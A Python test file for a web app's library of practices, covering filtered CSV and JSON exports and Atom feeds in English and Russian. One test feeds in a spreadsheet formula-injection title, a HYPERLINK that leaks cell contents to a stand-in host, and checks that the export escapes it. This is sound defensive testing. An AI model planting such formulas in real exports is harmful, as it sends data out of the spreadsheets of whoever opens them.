"""CSV and JSON exports of the filtered listing, and the Atom feed."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime

from pvenet import clock


def test_csv_export_follows_the_filters(client, make_practice):
    make_practice(state="KZ", title="Kazakh practice", topics=["youth"])
    make_practice(state="TJ", title="Tajik practice", topics=["prisons"])
    res = client.get("/library/export.csv?state=TJ")
    assert res.status_code == 200 and res.mimetype == "text/csv"
    assert "attachment" in res.headers["Content-Disposition"]
    text = res.data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["title"] for r in rows] == ["Tajik practice"]
    assert rows[0]["state"] == "TJ" and rows[0]["topics"] == "prisons"


def test_csv_export_cells_never_run_as_spreadsheet_formulas(client, make_practice):
    make_practice(title='=HYPERLINK("http://evil.example/?leak="&A1,"Open")')
    make_practice(title="+7 727 000 00 00 hotline", summary="@once")
    text = client.get("/library/export.csv").data.decode("utf-8-sig")
    titles = sorted(r["title"] for r in csv.DictReader(io.StringIO(text)))
    assert titles == [
        "'+7 727 000 00 00 hotline",
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    ]


def test_json_export_covers_every_page_and_the_readers_language(client, make_practice):
    for i in range(30):
        make_practice(
            title=f"Practice {i:02d}", translation=(f"Практика {i:02d}", "Кратко.", "Текст.")
        )
    data = json.loads(client.get("/library/export.json", headers={"Accept-Language": "ru"}).data)
    assert len(data) == 30  # not only the first page
    assert {p["language"] for p in data} == {"ru"} and data[0]["title"].startswith("Практика")


def test_export_search_matches_listing(client, make_practice):
    make_practice(title="Prison imams programme")
    make_practice(title="Football for teenagers")
    data = json.loads(client.get("/library/export.json?q=prisons").data)
    assert [p["title"] for p in data] == ["Prison imams programme"]


def test_atom_feed_lists_newly_published_practices_newest_first(client, make_practice):
    clock.set_now(datetime(2026, 1, 10, 8, 0))
    make_practice(title="Older practice")
    clock.set_now(datetime(2026, 3, 2, 8, 0))
    make_practice(title="Newer practice")
    make_practice(status="submitted", title="Not yet published")
    res = client.get("/library/feed.atom?lang=en")
    assert res.status_code == 200 and res.mimetype == "application/atom+xml"
    xml = res.text
    assert xml.index("Newer practice") < xml.index("Older practice")
    assert "Not yet published" not in xml
    assert "<published>2026-03-02T08:00:00+00:00</published>" in xml
    assert "http://127.0.0.1:5000/library/" in xml


def test_atom_feed_in_russian(client, make_practice):
    make_practice(title="Only English", translation=("Русский заголовок", "Кратко.", "Текст."))
    xml = client.get("/library/feed.atom?lang=ru").text
    assert "Русский заголовок" in xml and "Only English" not in xml
    assert '<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="ru">' in xml
    assert "эффективные практики" in xml.lower()  # the feed's own title in Russian


def test_listing_page_links_exports_with_its_filters(client, make_practice):
    make_practice()
    page = client.get("/library/?state=KZ&q=clubs").text
    assert "/library/export.csv?" in page and "state=KZ" in page and "q=clubs" in page
